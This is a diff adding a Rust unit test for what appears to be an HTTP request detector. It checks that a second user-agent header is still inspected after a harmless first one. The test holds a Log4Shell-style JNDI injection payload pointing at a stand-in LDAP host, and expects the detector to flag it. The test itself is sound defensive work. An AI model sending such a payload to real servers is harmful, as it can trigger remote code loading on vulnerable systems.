@@ -200,3 +200,15 @@ fn the_size_of_what_is_looked_at_is_bounded() {
         ["own.query"]
     );
 }
+
+#[test]
+fn every_user_agent_line_is_looked_at_also_when_the_first_is_known_to_be_harmless() {
+    let detection = Detection::default();
+    let harmless = ("user-agent", "Mozilla/5.0 (of this very test; x=1)");
+    let attack = ("user-agent", "${jndi:ldap://192.0.2.1/a}");
+    for _ in 0..2 {
+        assert_eq!(found(&detection, "/", "", &[harmless]), []);
+        let both = found(&detection, "/", "", &[harmless, attack]);
+        assert_eq!(rules(&both), ["command.jndi"]);
+    }
+}
